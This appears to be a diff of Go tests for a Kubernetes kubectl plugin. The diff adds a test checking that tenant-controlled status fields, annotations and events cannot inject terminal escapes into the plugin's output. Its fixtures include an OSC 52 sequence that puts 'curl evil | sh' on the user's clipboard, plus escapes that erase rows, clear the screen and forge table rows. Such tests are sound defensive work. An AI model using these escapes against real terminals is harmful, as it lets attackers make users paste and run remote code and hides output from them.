@@ -10,10 +10,15 @@ import (
 
 	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
 	corev1 "k8s.io/api/core/v1"
+	eventsv1 "k8s.io/api/events/v1"
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/util/wait"
 	clocktesting "k8s.io/utils/clock/testing"
+	"k8s.io/utils/ptr"
 	"sigs.k8s.io/controller-runtime/pkg/client"
+
+	swv1 "github.com/servicewatch/servicewatch/api/v1beta1"
 
 	"github.com/servicewatch/servicewatch/internal/testenv"
 )
@@ -200,7 +205,7 @@ func TestSyncWaitWaitsForItsOwnSync(t *testing.T) {
 	ctx := testContext(t)
 	syncFixture(ctx, t, "stale-ready")
 	done := runAsync(ctx, clocktesting.NewFakeClock(now), "sync", "stale-ready", "-n", "sync-tests", "--wait")
-	const token = "2026-11-26T12:00:00Z"
+	const token = requestToken
 	w := awaitRequest(ctx, t, "stale-ready", token)
 	notReturned(t, done, "on the Ready of the sync before its request")
 
@@ -229,9 +234,9 @@ func TestSyncWaitFailedSync(t *testing.T) {
 	ctx := testContext(t)
 	syncFixture(ctx, t, "fails")
 	done := runAsync(ctx, clocktesting.NewFakeClock(now), "sync", "fails", "-n", "sync-tests", "--wait")
-	w := awaitRequest(ctx, t, "fails", "2026-11-26T12:00:00Z")
+	w := awaitRequest(ctx, t, "fails", requestToken)
 	writeStatusAsManager(ctx, t, w, func(w *serviceWatch) {
-		w.Status.LastHandledRequestedAt = "2026-11-26T12:00:00Z"
+		w.Status.LastHandledRequestedAt = requestToken
 		w.Status.Conditions = []metav1.Condition{condAt(conditionReady, metav1.ConditionFalse, "Unauthorized", "the management API answered 401 Unauthorized", 0, w.Generation)}
 	})
 	r := await(t, done)
@@ -249,7 +254,7 @@ func TestSyncWaitTimesOut(t *testing.T) {
 	syncFixture(ctx, t, "unanswered")
 	clk := clocktesting.NewFakeClock(now)
 	done := runAsync(ctx, clk, "sync", "unanswered", "-n", "sync-tests", "--wait", "--timeout", "30s")
-	awaitRequest(ctx, t, "unanswered", "2026-11-26T12:00:00Z")
+	awaitRequest(ctx, t, "unanswered", requestToken)
 	if err := wait.PollUntilContextTimeout(ctx, 10*time.Millisecond, 30*time.Second, true, func(context.Context) (bool, error) {
 		return clk.HasWaiters(), nil
 	}); err != nil {
@@ -272,7 +277,7 @@ func TestSyncNoWait(t *testing.T) {
 	ctx := testContext(t)
 	syncFixture(ctx, t, "no-wait")
 	r := runPlugin(ctx, clocktesting.NewFakeClock(now), "sync", "no-wait", "-n", "sync-tests")
-	awaitRequest(ctx, t, "no-wait", "2026-11-26T12:00:00Z")
+	awaitRequest(ctx, t, "no-wait", requestToken)
 	golden(t, "sync-no-wait", r.transcript())
 }
 
@@ -353,13 +358,13 @@ func TestKubectlWaitHintWaitsForTheSync(t *testing.T) {
 		cmd.Stdout, cmd.Stderr = &out, &out
 		done <- cmd.Run()
 	}()
-	w := awaitRequest(ctx, t, "kubectl-wait", "2026-11-26T12:00:00Z")
+	w := awaitRequest(ctx, t, "kubectl-wait", requestToken)
 	select {
 	case err := <-done:
 		t.Fatalf("kubectl %s returned before the sync was handled (%v):\n%s", strings.Join(args, " "), err, out.String())
 	case <-time.After(2 * time.Second):
 	}
-	writeStatusAsManager(ctx, t, w, func(w *serviceWatch) { w.Status.LastHandledRequestedAt = "2026-11-26T12:00:00Z" })
+	writeStatusAsManager(ctx, t, w, func(w *serviceWatch) { w.Status.LastHandledRequestedAt = requestToken })
 	select {
 	case err := <-done:
 		if err != nil {
@@ -367,5 +372,126 @@ func TestKubectlWaitHintWaitsForTheSync(t *testing.T) {
 		}
 	case <-time.After(50 * time.Second):
 		t.Fatalf("kubectl %s did not return after the sync was handled:\n%s", strings.Join(args, " "), out.String())
+	}
+}
+
+// Terminal escapes a tenant's host, a tenant or anyone who may create
+// events in a namespace can put in what the plugin prints.
+const (
+	osc52    = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07" // writes the clipboard
+	eraseRow = "\x1b[1A\x1b[2K"                     // erases the row above
+	c1CSI    = "\u009b2J"                           // clears the screen, in one character
+	del      = "\x7f"
+)
+
+// hostileWatch is a watch of namespace hostile whose status, annotation
+// and events carry terminal escapes, as the API server stores them for a
+// manager that copied them (before issue 37) or a tenant who wrote them.
+func hostileWatch(ctx context.Context, t *testing.T) *serviceWatch {
+	t.Helper()
+	if err := env.Client.Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "hostile"}}); err != nil && !apierrors.IsAlreadyExists(err) {
+		t.Fatal(err)
+	}
+	w := newWatch("hostile", "evil")
+	w.Annotations = map[string]string{requestedAtAnnotation: "now" + osc52}
+	err := createWithStatus(ctx, env.Client, w, func(w *serviceWatch) {
+		w.Status.LastHandledRequestedAt = "earlier"
+		w.Status.Pipes = []swv1.Pipe{
+			fixturePipe("p1"+del, "logs"+osc52, "Failed"+eraseRow, "kafka"+c1CSI),
+			fixturePipe("p2", "two\nrows\tsplit", "Running\r", "kafka"),
+		}
+		w.Status.Alerts = []swv1.AlertStatus{{ID: "a1", Name: ptr.To("lag" + c1CSI), State: ptr.To("OK" + eraseRow), Error: "boom" + osc52}}
+		w.Status.Conditions = []metav1.Condition{condAt(conditionReady, metav1.ConditionFalse, "Failed", "pipe logs"+osc52+" failed", time.Minute, w.Generation)}
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	note := &eventsv1.Event{
+		ObjectMeta: metav1.ObjectMeta{Namespace: w.Namespace, Name: "evil.1"},
+		EventTime:  metav1.NewMicroTime(now.Add(-time.Minute)), ReportingController: "someone", ReportingInstance: "someone-1",
+		Action: "Sync", Reason: "Forged", Type: corev1.EventTypeWarning, Note: "hidden" + eraseRow + osc52 + c1CSI + del + "\nfake row",
+		Regarding: corev1.ObjectReference{APIVersion: swv1.GroupVersion.String(), Kind: "ServiceWatch", Namespace: w.Namespace, Name: w.Name, UID: w.UID},
+	}
+	if err := env.Client.Create(ctx, note); err != nil {
+		t.Fatal(err)
+	}
+	return w
+}
+
+// TestPrintsNoTerminalEscapes: get (every output format) and why print no
+// character a terminal acts on, from item names, states, errors, the
+// requested-at annotation, condition messages or event notes; the escapes
+// show as text instead, and a newline or tab in a value splits no row.
+func TestPrintsNoTerminalEscapes(t *testing.T) {
+	needEnv(t)
+	ctx := testContext(t)
+	hostileWatch(ctx, t)
+	clk := clocktesting.NewFakeClock(now)
+	for _, args := range [][]string{
+		{"get", "pipes", "-n", "hostile"},
+		{"get", "pipes", "-A", "-o", "wide"},
+		{"get", "alerts", "-n", "hostile", "-o", "wide"},
+		{"get", "pipes", "-n", "hostile", "-o", "json"},
+		{"get", "alerts", "-n", "hostile", "-o", "yaml"},
+		{"why", "evil", "-n", "hostile"},
+	} {
+		t.Run(strings.Join(args, " "), func(t *testing.T) {
+			r := runPlugin(ctx, clk, args...)
+			if r.code != exitOK {
+				t.Fatalf("exit status %d:\n%s", r.code, r.transcript())
+			}
+			for _, out := range []string{r.stdout, r.stderr} {
+				if c, ok := terminalControl(strings.ReplaceAll(out, "\n", "")); ok {
+					t.Errorf("printed %U, a character the terminal acts on:\n%q", c, out)
+				}
+			}
+			if !strings.Contains(r.stdout, `\x1b`) && !strings.Contains(r.stdout, `\u001b`) && !strings.Contains(r.stdout, `\u009b`) {
+				t.Errorf("the escapes do not show:\n%s", r.stdout)
+			}
+		})
+	}
+	// One row per pipe, however its values break lines: the header and 2.
+	r := runPlugin(ctx, clk, "get", "pipes", "-n", "hostile")
+	if lines := strings.Count(r.stdout, "\n"); lines != 3 {
+		t.Errorf("get pipes printed %d lines for 2 pipes:\n%s", lines, r.stdout)
+	}
+	why := runPlugin(ctx, clk, "why", "evil", "-n", "hostile").stdout
+	for _, want := range []string{`requested-at=now\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07`, `hidden\x1b[1A\x1b[2K`, `\nfake row`} {
+		if !strings.Contains(why, want) {
+			t.Errorf("why does not show %q:\n%s", want, why)
+		}
+	}
+}
+
+// TestSyncWaitNotAnsweredByARestoredRequest: another writer (a GitOps tool
+// restoring its manifest) sets the annotation back to the value the manager
+// handled before the request. The old echo is current again and Ready is
+// True from the earlier sync: sync --wait must not take that for its
+// answer; it warns, and fails at its timeout.
+func TestSyncWaitNotAnsweredByARestoredRequest(t *testing.T) {
+	needEnv(t)
+	ctx := testContext(t)
+	syncFixture(ctx, t, "restored")
+	clk := clocktesting.NewFakeClock(now)
+	done := runAsync(ctx, clk, "sync", "restored", "-n", "sync-tests", "--wait", "--timeout", "30s")
+	w := awaitRequest(ctx, t, "restored", requestToken)
+	before := w.DeepCopy()
+	w.Annotations[requestedAtAnnotation] = "earlier"
+	if err := env.Client.Patch(ctx, w, client.MergeFrom(before)); err != nil {
+		t.Fatal(err)
+	}
+	notReturned(t, done, "on the echo of the request before it, set back by another writer")
+	if err := wait.PollUntilContextTimeout(ctx, 10*time.Millisecond, 30*time.Second, true, func(context.Context) (bool, error) {
+		return clk.HasWaiters(), nil
+	}); err != nil {
+		t.Fatalf("sync --wait set no timer: %v", err)
+	}
+	clk.Step(30 * time.Second)
+	r := await(t, done)
+	if r.code == exitOK {
+		t.Errorf("exit status 0 for a sync the manager never handled:\n%s", r.transcript())
+	}
+	if !strings.Contains(r.stderr, `warning: another writer set `+requestedAtAnnotation+` back to "earlier"`) {
+		t.Errorf("no warning that the request was set aside:\n%s", r.transcript())
 	}
 }
